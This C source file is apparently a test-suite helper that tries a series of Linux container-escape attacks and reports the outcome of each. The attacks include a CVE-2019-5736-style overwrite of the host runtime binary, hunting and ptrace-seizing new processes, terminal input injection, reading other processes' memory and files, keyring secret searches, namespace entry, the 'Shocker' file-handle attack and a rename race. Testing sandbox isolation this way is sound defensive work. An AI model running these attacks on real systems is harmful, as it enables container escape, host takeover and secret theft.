/* Attacks that a shell has no word for: attack NAME ARGS…, each saying what came of it. Linux, static.
 *
 * Started as "/proc/self/exe" or as the dynamic loader of a program of the host's, it takes a handle on that program.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static int said(const char *what, long answer) {
  int error = errno;
  printf("%s: %s\n", what, answer < 0 ? strerror(error) : "done");
  return answer < 0;
}

/* CVE-2019-5736: the program behind the handle is to be overwritten. */
static int overwrite(const char *path) {
  char target[4096];
  ssize_t length = readlink(path, target, sizeof target - 1);
  target[length < 0 ? 0 : length] = 0;
  printf("target: %s\n", target);
  said("truncate", open(path, O_WRONLY | O_TRUNC));
  said("append", open(path, O_WRONLY | O_APPEND));
  said("chmod", chmod(path, 0777));
  return said("access", access(path, W_OK));
}

static int take_the_runtime(void) {
  char path[64];
  int fd = open("/proc/self/exe", O_PATH);
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  execl("/attack", "attack", "overwrite", path, (char *)NULL);
  return said("exec", -1);
}

/* The pid of a process of this pid namespace, `next` or a later one, that `signal` reached at once. Those that ended
 * before we were scheduled leave a gap, so we look far ahead now and then; each time would take too long. */
static pid_t appeared(pid_t next, int signal) {
  for (unsigned turn = 1;; turn++) {
    pid_t last = next + (turn % 64 ? 1 : 256);
    for (pid_t one = next; one <= last; one++) {
      if (kill(one, signal) == 0) return one;
    }
  }
}

/* Stop whatever else appears in this pid namespace, again and again, until one of them runs a program of the host's: one
 * on its way to the command it was asked for, or one that was asked for /proc/self/exe. That program is a mount of its
 * own, so its name is "/". */
static int hunt(void) {
  char path[64], target[4096];
  puts("hunting");
  for (pid_t next = getpid() + 1;; next++) {
    next = appeared(next, SIGSTOP);
    snprintf(path, sizeof path, "/proc/%d/exe", next);
    while (kill(next, SIGSTOP) == 0) {
      ssize_t length = readlink(path, target, sizeof target - 1);
      if (length == 1 && target[0] == '/') {
        overwrite(path);
        return kill(next, SIGKILL);
      }
      kill(next, SIGCONT);
    }
  }
}

/* Whether a process has its own view of files and nothing of the host's that leads on: the same mount namespace as ours,
 * and no descriptor of a socket (the spawner's channel), a namespace or a process. */
static int is_inside(pid_t pid) {
  char path[64], ours[64] = "", theirs[4096] = "";
  snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
  if (readlink("/proc/self/ns/mnt", ours, sizeof ours - 1) < 0 || readlink(path, theirs, sizeof theirs - 1) < 0) return 0;
  int inside = !strcmp(ours, theirs);
  for (int fd = 0; fd < 64; fd++) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
    ssize_t length = readlink(path, theirs, sizeof theirs - 1);
    if (length < 0) continue;
    theirs[length] = 0;
    if (strstr(theirs, ":[") && strncmp(theirs, "pipe:", 5)) inside = 0; /* socket:[…], mnt:[…] */
  }
  return inside;
}

/* Trace whatever else appears in this pid namespace from its first moment on, and say what program each is by then. */
static int seize(void) {
  char path[64], target[4096];
  puts("hunting");
  for (pid_t next = getpid() + 1;; next++) {
    next = appeared(next, 0);
    while (ptrace(PTRACE_SEIZE, next, 0, 0) < 0 && kill(next, 0) == 0) continue;
    snprintf(path, sizeof path, "/proc/%d/exe", next);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    printf("seized: %s %s\n", target, is_inside(next) ? "inside" : "outside");
    ptrace(PTRACE_INTERRUPT, next, 0, 0);
    while (waitpid(next, NULL, __WALL) > 0 && ptrace(PTRACE_DETACH, next, 0, 0) < 0) continue;
  }
}

/* Put a character into a terminal's input, and take the terminal over. */
static int terminal(int fd) {
  int taken = ioctl(fd, TIOCSCTTY, 1);
  said("TIOCSCTTY", taken);
  int put = ioctl(fd, TIOCSTI, "!");
  said("TIOCSTI", put);
  int tty = open("/dev/tty", O_RDWR);
  said("/dev/tty", tty);
  char paste[] = {3};
  said("TIOCLINUX", ioctl(fd, TIOCLINUX, paste));
  return put < 0 && taken < 0;
}

static int process(pid_t pid) {
  char data[8], path[64];
  struct iovec here = {data, sizeof data}, there = {&data, sizeof data};
  static const char *const files[] = {"mem", "environ", "root/etc/passwd", "cwd", "fd/0", "ns/mnt", "maps", "exe"};
  said("ptrace", ptrace(PTRACE_SEIZE, pid, 0, 0));
  said("process_vm_readv", process_vm_readv(pid, &here, 1, &there, 1, 0));
  long fd = syscall(SYS_pidfd_open, pid, 0);
  said("pidfd_open", fd);
  said("pidfd_getfd", syscall(SYS_pidfd_getfd, (int)fd, 0, 0));
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
    said(files[i], open(path, O_RDONLY));
  }
  return 0;
}

static int keyrings(const char *name) {
  said("join", syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL, 0, 0, 0));
  said("add", syscall(SYS_add_key, "user", "cove-attack", "x", 1, KEY_SPEC_PROCESS_KEYRING));
  return said("search", syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0));
}

/* The secret in the session keyring that this process was born with. */
static int secret(const char *name) {
  return said("search", syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0));
}

static int enter(const char *path) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return said("open", fd);
  return said("setns", syscall(SYS_setns, fd, 0));
}

/* "Shocker": a file of the host's by its handle, where the inode number of a file system's root is always the same. */
static int by_handle(void) {
  struct {
    unsigned bytes;
    int type;
    unsigned char data[8];
  } handle = {8, 1, {2}}; /* struct file_handle */
  int fd = open("/etc/hostname", O_RDONLY);
  return said("open_by_handle_at", syscall(SYS_open_by_handle_at, fd, &handle, O_RDONLY));
}

/* Swap two names for ever: what was looked at is another thing when it is used. */
static int swap(const char *first, const char *second) {
  for (;;)
    if (syscall(SYS_renameat2, AT_FDCWD, first, AT_FDCWD, second, 2 /* RENAME_EXCHANGE */) < 0) return said("swap", -1);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc < 2 || !strcmp(argv[0], "/proc/self/exe")) return take_the_runtime();
  if (!strcmp(argv[1], "overwrite")) return overwrite(argv[2]);
  if (!strcmp(argv[1], "hunt")) return hunt();
  if (!strcmp(argv[1], "seize")) return seize();
  if (!strcmp(argv[1], "terminal")) return terminal(atoi(argv[2]));
  if (!strcmp(argv[1], "process")) return process(atoi(argv[2]));
  if (!strcmp(argv[1], "keyrings")) return keyrings(argv[2]);
  if (!strcmp(argv[1], "secret")) return secret(argv[2]);
  if (!strcmp(argv[1], "enter")) return enter(argv[2]);
  if (!strcmp(argv[1], "handle")) return by_handle();
  if (!strcmp(argv[1], "swap")) return swap(argv[2], argv[3]);
  return 2;
}
